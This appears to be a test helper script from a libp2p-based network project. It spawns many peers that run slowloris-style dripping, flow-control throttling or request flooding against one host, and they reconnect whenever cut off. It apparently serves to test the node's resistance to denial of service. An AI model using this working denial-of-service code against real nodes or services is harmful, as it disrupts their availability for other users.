import '../dist/polyfill.js'
import { setTimeout as sleep } from 'node:timers/promises'
import { generateKeyPairFromSeed } from '@libp2p/crypto/keys'
import { identify } from '@libp2p/identify'
import { noise } from '@libp2p/noise'
import { tcp } from '@libp2p/tcp'
import { yamux } from '@libp2p/yamux'
import { multiaddr } from '@multiformats/multiaddr'
import { createLibp2p } from 'libp2p'
import { encodeRequest } from '../dist/control.js'
import { protocolNames } from '../dist/protocol.js'

/**
 * Many peers in a process of its own that keep one host from answering others, each on as many streams as it gets. They
 * come back when they are cut. Argument 1 is what they do, 2 the host's address, 3 the network's id and 4 the header hash
 * that they ask for, both as hex, 5 how many they are. It says so when all are connected, and ends with its parent.
 */

const [, , attack, address, networkHex, hashHex, count] = process.argv
const network = Buffer.from(networkHex, 'hex')
const names = protocolNames(network)
const headerHash = Uint8Array.from(Buffer.from(hashHex, 'hex'))
const PROTOCOLS = [names.data, names.submit, names.vault, names.bond, names.certify]
const STREAMS = 6
const WINDOW_UPDATE = 1
/** The least that yamux takes for a reason to send on. */
const SIP = 64

/** One byte of a request at a time, and never the end. */
async function drip(connection, protocol) {
  const stream = await connection.newStream(protocol)
  const closed = new Promise((resolve) => stream.addEventListener('close', resolve))
  while (stream.status === 'open') {
    stream.send(Uint8Array.of(1))
    await Promise.race([closed, sleep(500)])
  }
}

/** A whole request; of its response no more than keeps it from being given up. */
async function sip(connection) {
  const stream = await connection.newStream(names.data)
  stream.pause()
  stream.send(encodeRequest({ headerHash, kind: 'data' }))
  await stream.close()
  while (stream.status === 'open') {
    stream.recvWindowCapacity += SIP
    stream.sendFrame({ type: WINDOW_UPDATE, flag: 0, streamID: stream.streamId, length: SIP })
    await sleep(500)
  }
}

/** Whole requests, one after another, as fast as they are answered. */
async function flood(connection) {
  const stream = await connection.newStream(names.data)
  const ended = new Promise((resolve) => stream.addEventListener('close', resolve))
  stream.addEventListener('message', () => undefined)
  stream.send(encodeRequest({ headerHash, kind: 'header' }))
  await stream.close()
  if (stream.status === 'open') await ended
}

const ATTACKS = {
  drip: PROTOCOLS.map((protocol) => (connection) => drip(connection, protocol)),
  sip: [sip],
  flood: [flood],
}

/** Between dials of one peer that is kept out; a host shakes few hands of one address in a second. */
const REDIAL_MS = 2_000
const DIAL_MS = 130

async function start(number) {
  const seed = new Uint8Array(32).fill(77)
  seed[0] = number
  return await createLibp2p({
    privateKey: await generateKeyPairFromSeed('Ed25519', seed),
    transports: [tcp()],
    connectionEncrypters: [noise({ prologueBytes: network })],
    streamMuxers: [yamux({ maxOutboundStreams: 5_000 })],
    services: { identify: identify() },
  })
}

/** A host that cuts a stream, or hangs up, is what it has to expect. */
async function dial(node) {
  for (;;) {
    const [dialled] = await Promise.allSettled([node.dial(multiaddr(address))])
    if (dialled.status === 'fulfilled') return dialled.value
    await sleep(REDIAL_MS)
  }
}

async function repeat(node, work) {
  for (;;) {
    const [connection = await dial(node)] = node.getConnections()
    const [outcome] = await Promise.allSettled([work(connection)])
    if (outcome.status === 'rejected') await sleep(50)
  }
}

process.on('disconnect', () => process.exit(0))
const nodes = []
for (let number = 1; number <= Number(count); number++) {
  const node = await start(number)
  await dial(node)
  nodes.push(node)
  await sleep(DIAL_MS)
}
process.send({ ready: true })
for (const node of nodes)
  for (const work of ATTACKS[attack]) for (let at = 0; at < STREAMS; at++) void repeat(node, work)
